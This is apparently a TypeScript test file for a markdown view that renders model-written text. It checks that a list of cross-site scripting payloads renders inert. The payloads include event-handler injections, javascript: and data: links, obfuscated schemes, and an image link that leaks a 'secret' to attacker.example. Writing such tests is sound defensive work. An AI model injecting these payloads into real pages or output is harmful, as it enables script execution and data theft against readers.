// @vitest-environment jsdom
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { safeHref } from "./links";
import { createSanitizer } from "./sanitize";
import { MarkdownView } from "./view";

const words = { copy: "Copy", copied: "Copied", code: "text", table: "Table", image: "Image" };
const sanitize = createSanitizer(window);

function show(text: string, open = false): HTMLElement {
  const root = document.createElement("div");
  new MarkdownView(root, { words, sanitize, copy: () => Promise.resolve(true) }).update(text, open);
  return root;
}

const attacks = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<svg><foreignObject><iframe src=javascript:alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](https://attacker.example/?q=secret)",
  "![x](javascript:alert(1))",
  "<javascript:alert(1)>",
  "[x](vbscript:msgbox)",
  "[x]: javascript:alert(1)\n\n[x]",
  '[x](https://e.example "\\" onmouseover=alert(1) \\"")',
  '```js" onload=alert(1)\n<img src=x onerror=alert(1)>\n```',
  "[x](/api/stop)",
  "[x](//attacker.example)",
  "<a href=https://e.example style=position:fixed>",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <style>*{}</style> |",
  "- <iframe>\n  ```html\n  <script>alert(1)</script>\n  ```",
  "<br onclick=alert(1)>",
  "&lt;script&gt;",
  "[x](java\nscript:alert(1))",
  '![a](https://e.example/"onerror=alert(1))',
];

/** Nothing that runs, loads or restyles: report 42. */
function expectInert(root: HTMLElement): void {
  expect(
    root.querySelectorAll("script,img,iframe,style,svg,object,embed,form,input,link,meta,base,video,audio").length,
  ).toBe(0);
  for (const element of root.querySelectorAll("*")) {
    for (const name of element.getAttributeNames()) {
      expect(name).not.toMatch(/^on|^style$|^src|^srcset$|^formaction$/);
    }
    const href = element.getAttribute("href");
    if (href !== null) expect(safeHref(href)).not.toBeNull();
  }
}

describe("what a model writes cannot act", () => {
  test.each(attacks)("%j", (attack) => {
    expectInert(show(attack));
    expectInert(show(`text ${attack}`, true));
  });

  test("in any mix, at any point of the stream", () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...attacks, "\n\n", "**", "`", "> ", "- "), { maxLength: 6 }),
        fc.double({ min: 0, max: 1, noNaN: true }),
        (parts, share) => {
          const text = parts.join("");
          expectInert(show(text));
          expectInert(show(text.slice(0, Math.floor(text.length * share)), true));
        },
      ),
      { numRuns: 200 },
    );
  });

  test("the text of a tag is shown, not swallowed", () => {
    expect(show("<img src=x onerror=alert(1)>").textContent).toBe("<img src=x onerror=alert(1)>");
  });

  test("only absolute web and mail addresses become links", () => {
    expect(safeHref("https://example.org/a b")).toBe("https://example.org/a%20b");
    expect(safeHref("mailto:someone@example.org")).toBe("mailto:someone@example.org");
    for (const address of [
      "",
      "x",
      "/x",
      "#x",
      "//x.example",
      "javascript:1",
      "data:,x",
      "file:///etc/passwd",
      "blob:https://x",
    ]) {
      expect(safeHref(address)).toBeNull();
    }
  });
});
